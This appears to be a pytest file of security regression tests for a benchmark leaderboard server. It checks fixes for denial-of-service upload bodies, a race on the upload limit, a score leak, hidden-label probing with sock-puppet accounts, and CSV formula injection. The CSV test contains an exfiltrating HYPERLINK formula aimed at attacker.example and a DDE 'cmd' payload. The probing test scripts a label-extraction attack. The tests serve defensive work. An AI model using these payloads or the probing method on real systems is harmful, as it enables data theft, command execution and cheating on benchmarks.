"""The leaderboard findings of issue 42, each against a real ``glotbench serve`` on loopback (SQLite
file; PostgreSQL where a throwaway server starts, see test_lb_postgres.py)."""

from __future__ import annotations

import json
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
from lb_server import api_json, http
from test_lb_attacks import GOLD, META, Browser, doc, prepared, server_factory  # noqa: F401  (fixtures)

pytestmark = pytest.mark.slow


class Poller:
    """Asks ``/api/tasks`` every 50 ms in a thread and keeps the slowest answer (or a failure)."""

    def __init__(self, base: str):
        self.base, self.worst, self.failures, self.n = base, 0.0, [], 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        while not self._stop.is_set():
            t0 = time.monotonic()
            try:
                status = http("GET", self.base + "/api/tasks", timeout=5)[0]
                if status != 200:
                    self.failures.append(status)
            except OSError as err:
                self.failures.append(repr(err))
            self.worst = max(self.worst, time.monotonic() - t0)
            self.n += 1
            time.sleep(0.05)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join(10)


ESCAPED_QUOTES = {"40 KB": '"' + '\\"' * 20000, "94 KB": '"' + '\\"' * 47000}


# issue 42, finding 1: an unterminated run of escaped quotes made the depth check quadratic
def test_escaped_quote_uploads_answer_within_a_second_while_tasks_keep_answering(prepared, server_factory):
    escaped_quote_uploads_answer_fast(*prepared, server_factory)


def escaped_quote_uploads_answer_fast(url, tokens, start):
    srv = start(url, "--max-per-day", "100", "--max-per-month", "100")
    with Poller(srv.base) as poll:
        time.sleep(0.2)
        for name, body in ESCAPED_QUOTES.items():
            for path in ("/api/submissions?task=wnli&model=m", "/api/submissions"):
                t0 = time.monotonic()
                status, answer, _ = api_json("POST", srv.base + path, tokens["alice"], raw=body.encode(), )
                took = time.monotonic() - t0
                assert status == 422 and took < 1.0, (name, path, status, took, answer[:200])
        web = Browser(srv.base)
        assert web.login("alice", "alice-pass-123") == 303
        for name, body in ESCAPED_QUOTES.items():
            t0 = time.monotonic()
            status, _ = web.req("POST", "/submit", {"csrf_token": web.csrf("/submit"), "task": "wnli", "model": "m", **META},
                                files={"file": ("p.json", body)})
            assert status == 422 and time.monotonic() - t0 < 1.0, (name, status)
        time.sleep(0.2)
    assert not poll.failures and poll.n >= 3 and poll.worst < 1.0, (poll.failures, poll.n, poll.worst)


def _stored(url) -> int:
    from sqlalchemy import func, select

    from glotbench.leaderboard.db import open_db
    from glotbench.leaderboard.schema import Submission

    with open_db(url)() as db:
        return db.scalar(select(func.count()).select_from(Submission))


def parallel_uploads_accept_exactly_the_limit(url, token, start):
    """20 parallel valid uploads against a daily limit of 5: exactly 5 are stored (the count-then-insert
    check accepted 8 on SQLite, 9 on PostgreSQL). Rejected uploads count too: after 5 malformed
    uploads another user has no slot left for a good one."""
    srv = start(url, "--max-per-day", "5", "--max-per-month", "30")
    try:
        with ThreadPoolExecutor(20) as pool:
            results = list(pool.map(lambda n: api_json("POST", srv.base + "/api/submissions", token["alice"],
                                                        doc(GOLD, model=f"race-{n}")), range(20)))
        statuses = sorted(s for s, _, _ in results)
        assert statuses == [201] * 5 + [429] * 15, [(s, b[:120]) for s, b, _ in results]
        assert _stored(url) == 5
        # every rejected upload counts: 5 escaped-quote bodies use up bob's day
        for _ in range(5):
            assert api_json("POST", srv.base + "/api/submissions?task=wnli", token["bob"], raw=b'"' + b'\\"' * 20000)[0] == 422
        status, body, _ = api_json("POST", srv.base + "/api/submissions", token["bob"], doc(GOLD, model="late"))
        assert status == 429 and "limit" in json.loads(body)["problems"][0], body[:200]
        assert _stored(url) == 5
    finally:
        srv.stop()


# issue 42, finding 4: the daily limit could be raced (count, then insert)
def test_parallel_uploads_accept_exactly_the_daily_limit_on_sqlite(prepared, server_factory):
    url, tokens = prepared
    parallel_uploads_accept_exactly_the_limit(url, tokens, server_factory)


# issue 42, finding 7: n_fallback 10**30 answered 500; negative values were stored
def test_out_of_range_n_fallback_is_a_clear_422_and_stores_nothing(prepared, server_factory):
    out_of_range_n_fallback_is_a_422(*prepared, server_factory)


def out_of_range_n_fallback_is_a_422(url, tokens, start):
    srv = start(url, "--max-per-day", "100", "--max-per-month", "100")
    for bad in (10**30, -1, -(10**30), len(GOLD) + 1, "7", 2.5, True):
        status, body, _ = api_json("POST", srv.base + "/api/submissions", tokens["alice"],
                                   doc(GOLD, model="nf", glotbench={"n_fallback": bad}))
        assert status == 422, (bad, status, body[:200])
        assert any("n_fallback" in p for p in json.loads(body)["problems"]), body[:300]
    assert _stored(url) == 0
    status, body, _ = api_json("POST", srv.base + "/api/submissions", tokens["alice"], doc(GOLD, model="nf", glotbench={"n_fallback": 3}))
    assert status == 201 and json.loads(body)["n_fallback"] == 3


# issue 42, finding 2: "My submissions" showed the all-items score of a pending result on a task with a
# public share (0.634) where the API showed the public-share score (0.597)
def test_my_submissions_page_shows_the_public_share_score_like_the_api(prepared, server_factory):
    import re

    from glotbench.leaderboard import service
    from glotbench.leaderboard.db import open_db

    url, tokens = prepared
    gold = {str(i): str(i % 2) for i in range(300)}
    with open_db(url)() as db:
        task = service.add_task(db, "split", gold, "accuracy", labels=["0", "1"], public_share=0.5)
        public = service.public_ids(task, gold)
    preds = {i: (g if i in public else str(1 - int(g))) for i, g in gold.items()}  # right on the public share only
    srv = server_factory(url, "--max-per-day", "100", "--max-per-month", "100")
    body = {"task": "split", "model": "m", **META, "predictions": [{"id": i, "label": l} for i, l in preds.items()]}
    status, answer, _ = api_json("POST", srv.base + "/api/submissions", tokens["alice"], body)
    assert status == 201, answer[:200]
    api = json.loads(answer)
    assert api["score"] == 1.0 and api["score_on"] == "public share"
    web = Browser(srv.base)
    assert web.login("alice", "alice-pass-123") == 303
    for path in ("/submissions", f"/submissions/{api['id']}"):
        status, page = web.req("GET", path)
        shown = re.findall(r'class="(?:num score|value)"[^>]*>([0-9.]+)', page)
        assert status == 200 and shown == ["1.000"], (path, shown)  # not the all-items score
        assert f"{len(public) / 300:.3f}" not in page
    mine = json.loads(http("GET", srv.base + "/api/submissions", headers={"Authorization": f"Bearer {tokens['alice']}"})[1])
    assert [m["score"] for m in mine] == [1.0]
    # the administrator sees both, the board nothing until approval
    admin = Browser(srv.base)
    assert admin.login(*__import__("lb_helpers").ADMIN) == 303
    page = admin.req("GET", "/admin")[1]
    assert f"{len(public) / 300:.3f}" in page and "1.000" in page


def _fresh_account(base: str, name: str) -> str | None:
    """Register ``name`` through the pages and make an API token; ``None`` when registration is refused."""
    import re

    b = Browser(base)
    status, _ = b.req("POST", "/register", {"csrf_token": b.csrf("/register"), "username": name, "password": "pw-123456789",
                                            "password2": "pw-123456789"})
    if status != 303:
        assert status == 429, status
        return None
    page = b.req("POST", "/account/tokens", {"csrf_token": b.csrf("/account"), "name": "probe"})[1]
    return re.search(r'id="new-token">([^<]+)<', page).group(1)


# issue 42, finding 3: 28 accounts registered in 54 s recovered 134/134 hidden labels by one-flip probing
def test_one_flip_probe_with_28_fresh_accounts_from_one_address_is_refused_early(prepared, server_factory):
    url, _ = prepared
    srv = server_factory(url)  # the default limits
    base = {i: "0" for i in GOLD}
    tokens = [t for t in (_fresh_account(srv.base, f"sock{n:02d}") for n in range(28)) if t]
    assert 1 <= len(tokens) <= 3, len(tokens)  # 3 new accounts per address per hour
    baseline, learnt, refused = None, {}, 0
    item = 0
    for token in tokens:
        for _ in range(10):
            probe = dict(base) if baseline is None else dict(base, **{str(item): "1"})
            status, body, _ = api_json("POST", srv.base + "/api/submissions", token, doc(probe, model=f"probe-{item}"))
            if status != 201:
                assert status == 429, body[:200]
                refused += 1
                continue
            score = json.loads(body)["score"]
            if baseline is None:
                baseline = score
                continue
            learnt[str(item)] = "1" if score > baseline else "0"
            item += 1
    print(f"probe: {len(tokens)} of 28 accounts registered, {len(learnt)} labels learnt, {refused} uploads refused")
    assert refused > 0 and len(learnt) < 20, (len(learnt), refused)
    # issue 48: before approval the owner sees the score in steps of 0.05, so a one-flip probe reads
    # "no change" for most items whatever their label: fewer "learnt" labels are right than the limit allows
    right = sum(GOLD[i] == l for i, l in learnt.items())
    print(f"probe: {right} of {len(learnt)} 'learnt' labels right")
    assert len(learnt) <= 3 * 5 - 1  # the per-address daily limit (3 x --max-per-day) less one baseline


def test_new_accounts_wait_for_approval_when_asked(prepared, server_factory, tmp_path):
    import os
    import subprocess
    import sys

    from lb_server import REPO

    url, _ = prepared
    srv = server_factory(url, "--approve-accounts")
    token = _fresh_account(srv.base, "newcomer")
    status, body, _ = api_json("POST", srv.base + "/api/submissions", token, doc(GOLD, model="early"))
    assert status == 403 and "approval" in json.loads(body)["problems"][0]
    env = dict(os.environ, PYTHONPATH=str(REPO / "src"))
    out = subprocess.run([sys.executable, "-m", "glotbench", "admin", "approve-user", "newcomer", "--db", url],
                         env=env, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert api_json("POST", srv.base + "/api/submissions", token, doc(GOLD, model="later"))[0] == 201


# issue 42, finding 8: CSV export cells starting with = + - @ ran as formulas in a spreadsheet
def test_csv_export_cells_cannot_run_as_formulas(prepared, server_factory):
    import csv
    import io

    from glotbench.leaderboard import service
    from glotbench.leaderboard.db import open_db

    url, tokens = prepared
    with open_db(url)() as db:
        mallory = service.create_user(db, "mallory", "mallory-pass-1", team="@SUM(1+1)*cmd|' /C calc'!A0")
        token = service.create_token(db, mallory)
    srv = server_factory(url)
    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
    status, body, _ = api_json("POST", srv.base + "/api/submissions", token, doc(GOLD, model=evil))
    assert status == 201, body[:200]
    sub_id = json.loads(body)["id"]
    assert api_json("POST", srv.base + f"/api/submissions/{sub_id}/review", tokens["admin"], {"status": "approved"})[0] == 200
    status, raw, _ = http("GET", srv.base + "/api/export.csv")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
    row = next(r for r in rows[1:] if "HYPERLINK" in r[0])
    assert row[0] == "'" + evil and row[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r), rows
    assert float(row[3]) == 1.0  # numbers stay numbers


def test_too_large_uploads_count_against_the_daily_limit(prepared, server_factory):
    """issue 42, finding 1: every rejected upload counts, also one refused unread (413)."""
    url, tokens = prepared
    srv = server_factory(url, "--max-per-day", "3", "--max-upload-mb", "0.05")
    big = b"[" + b'{"id": "1", "label": "1"},' * 4000 + b"]"
    statuses = [api_json("POST", srv.base + "/api/submissions?task=wnli", tokens["alice"], raw=big)[0] for _ in range(4)]
    assert statuses == [413, 413, 413, 429], statuses
    assert api_json("POST", srv.base + "/api/submissions", tokens["alice"], doc(GOLD, model="late"))[0] == 429
